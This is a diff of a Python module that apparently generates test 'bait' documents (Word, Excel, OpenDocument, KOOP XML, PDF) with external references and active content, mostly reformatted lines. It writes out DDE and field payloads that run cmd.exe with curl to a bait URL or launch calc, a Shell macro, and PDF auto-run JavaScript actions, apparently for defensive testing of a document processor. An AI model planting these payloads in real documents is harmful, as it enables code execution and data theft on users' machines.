@@ -51,7 +51,9 @@ def html(bait: Bait) -> bytes:
 
 def koop_xml(bait: Bait) -> bytes:
     """A publication with a stylesheet, parts and pictures elsewhere."""
-    rows = "".join(f"<row>{''.join(f'<entry><al>{text}</al></entry>' for text in cells)}</row>" for cells in (HEAD, ROW))
+    rows = "".join(
+        f"<row>{''.join(f'<entry><al>{text}</al></entry>' for text in cells)}</row>" for cells in (HEAD, ROW)
+    )
     outside = "".join(
         f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{to}" parse="text"/>'
         f'<plaatje><illustratie naam="{to}" {XLINK} xlink:href="{to}" xlink:actuate="onLoad"/></plaatje><extref doc="{to}">x</extref>'
@@ -67,7 +69,9 @@ def koop_xml(bait: Bait) -> bytes:
 
 def koop_dtd(bait: Bait) -> bytes:
     """A publication with a DTD elsewhere."""
-    return koop_xml(bait).replace(b"<officiele", f'<!DOCTYPE officiele-publicatie SYSTEM "{bait.url}"><officiele'.encode(), 1)
+    return koop_xml(bait).replace(
+        b"<officiele", f'<!DOCTYPE officiele-publicatie SYSTEM "{bait.url}"><officiele'.encode(), 1
+    )
 
 
 def koop_entity(bait: Bait) -> bytes:
@@ -84,10 +88,23 @@ def word(bait: Bait) -> bytes:
         for number, to in enumerate((bait.file, bait.url))
         for kind in kinds
     )
-    fields = (f'INCLUDETEXT "{bait.path}"', f'INCLUDEPICTURE "{bait.url}" \\d', f'DDEAUTO c:\\\\cmd.exe "/k curl {bait.url}"', f'LINK Excel.Sheet "{bait.path}"')
-    simple = "".join(f'<w:p><w:fldSimple w:instr=" {field.replace(chr(34), "&quot;")} ">{run("x")}</w:fldSimple></w:p>' for field in fields)
-    chunks = '<w:altChunk r:id="u0aFChunk"/><w:subDoc r:id="u1subDocument"/>'.replace("r:id", f'xmlns:r="{RELATIONS}" r:id')
-    data = docx(simple + chunks + table(row(*map(cell, HEAD)), row(*map(cell, ROW))), settings='<w:attachedTemplate r:id="u1attachedTemplate" xmlns:r="%s"/>' % RELATIONS)
+    fields = (
+        f'INCLUDETEXT "{bait.path}"',
+        f'INCLUDEPICTURE "{bait.url}" \\d',
+        f'DDEAUTO c:\\\\cmd.exe "/k curl {bait.url}"',
+        f'LINK Excel.Sheet "{bait.path}"',
+    )
+    simple = "".join(
+        f'<w:p><w:fldSimple w:instr=" {field.replace(chr(34), "&quot;")} ">{run("x")}</w:fldSimple></w:p>'
+        for field in fields
+    )
+    chunks = '<w:altChunk r:id="u0aFChunk"/><w:subDoc r:id="u1subDocument"/>'.replace(
+        "r:id", f'xmlns:r="{RELATIONS}" r:id'
+    )
+    data = docx(
+        simple + chunks + table(row(*map(cell, HEAD)), row(*map(cell, ROW))),
+        settings=f'<w:attachedTemplate r:id="u1attachedTemplate" xmlns:r="{RELATIONS}"/>',
+    )
     named = f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'
     return _with_parts(data, {
         "word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", relations.encode() + b"</Relationships>"),
@@ -99,12 +116,25 @@ def word(bait: Bait) -> bytes:
 
 def workbook(bait: Bait) -> bytes:
     """A workbook with formulas, links, connections and queries that lead elsewhere."""
-    formulas = (f'WEBSERVICE("{bait.url}")', f"'[{bait.path}]Blad1'!A1", "cmd|'/C calc'!A0", f'HYPERLINK("{bait.url}")', f'IMAGE("{bait.url}")', "[1]Blad1!$B$2")
-    cells = "".join(f'<row r="{number}"><c r="A{number}" t="str"><f>{formula.replace(chr(34), "&quot;")}</f><v>Aantal {number}</v></c><c r="B{number}"><f>1+1</f><v>12</v></c></row>' for number, formula in enumerate(formulas, start=2))
+    formulas = (
+        f'WEBSERVICE("{bait.url}")',
+        f"'[{bait.path}]Blad1'!A1",
+        "cmd|'/C calc'!A0",
+        f'HYPERLINK("{bait.url}")',
+        f'IMAGE("{bait.url}")',
+        "[1]Blad1!$B$2",
+    )
+    cells = "".join(
+        f'<row r="{number}"><c r="A{number}" t="str"><f>{formula.replace(chr(34), "&quot;")}</f><v>Aantal {number}</v></c><c r="B{number}"><f>1+1</f><v>12</v></c></row>'
+        for number, formula in enumerate(formulas, start=2)
+    )
     head = '<row r="1"><c r="A1" t="inlineStr"><is><t>Indicator</t></is></c><c r="B1" t="inlineStr"><is><t>Norm 2020</t></is></c></row>'
-    outside = "".join(f'<Relationship Id="x{number}" Type="{RELATIONS}/externalLinkPath" Target="{to}" TargetMode="External"/>' for number, to in enumerate((bait.file, bait.url)))
+    outside = "".join(
+        f'<Relationship Id="x{number}" Type="{RELATIONS}/externalLinkPath" Target="{to}" TargetMode="External"/>'
+        for number, to in enumerate((bait.file, bait.url))
+    )
     link = f'<externalLink {SHEET} xmlns:r="{RELATIONS}"><externalBook r:id="x1"/><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
-    relation = '<Relationship Id="{0}" Type="%s/{1}" Target="{2}"/>' % RELATIONS
+    relation = '<Relationship Id="{0}" Type="' + RELATIONS + '/{1}" Target="{2}"/>'
     return pack({
         "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("r", "officeDocument", "xl/workbook.xml")}</Relationships>',
         "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("s1", "worksheet", "worksheets/sheet1.xml")}{relation.format("e1", "externalLink", "externalLinks/externalLink1.xml")}{relation.format("c1", "connections", "connections.xml")}</Relationships>',
@@ -123,18 +153,19 @@ def _open_document(kind: str, body: str, bait: Bait) -> bytes:
     events = f'<script:event-listener xmlns:script="urn:x" script:event-name="dom:load" {XLINK} xlink:href="vnd.sun.star.script:x?language=Basic"/>'
     content = f'<office:document-content {ODF} {XLINK} xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">{scripts}{events}<office:body>{body}</office:body></office:document-content>'
     macro = '<script:module xmlns:script="urn:x">Sub Main : Shell("calc") : End Sub</script:module>'
-    return pack({"mimetype": kind, "content.xml": content, "Basic/Standard/Module1.xml": macro, "Object 1/content.xml": content})
+    return pack(
+        {"mimetype": kind, "content.xml": content, "Basic/Standard/Module1.xml": macro, "Object 1/content.xml": content}
+    )
 
 
 def _open_table(cells: Mapping[tuple[int, int], str] | None = None) -> str:
-    rows = "".join(
+    return "".join(
         "<table:table-row>" + "".join(
             f'<table:table-cell office:value-type="string" {(cells or {}).get((down, right), "")}><text:p>{text}</text:p></table:table-cell>'
             for right, text in enumerate(texts)
         ) + "</table:table-row>"
         for down, texts in enumerate((HEAD, ROW))
     )  # fmt: skip
-    return rows
 
 
 def text_document(bait: Bait) -> bytes:
@@ -174,7 +205,8 @@ def paper(bait: Bait) -> bytes:
     chain = b" ".join(b"%d 0 R" % (first + at) for at in range(len(actions)))
     catalog = (
         b"<</Type/Catalog/Pages 2 0 R/OpenAction %d 0 R/AA<</WC %d 0 R>>/Names<</EmbeddedFiles<</Names[(geheim.txt) 9 0 R]>>/JavaScript"
-        b"<</Names[(a) %d 0 R]>>>>/AcroForm<</XFA 11 0 R/Fields[]>>/URI<</Base(%b)>>>>" % (first, first + 1, first + 3, url)
+        b"<</Names[(a) %d 0 R]>>>>/AcroForm<</XFA 11 0 R/Fields[]>>/URI<</Base(%b)>>>>"
+        % (first, first + 1, first + 3, url)
     )
     page = (
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 8 0 R]/AA<</O %d 0 R>>/Annots[6 0 R]"
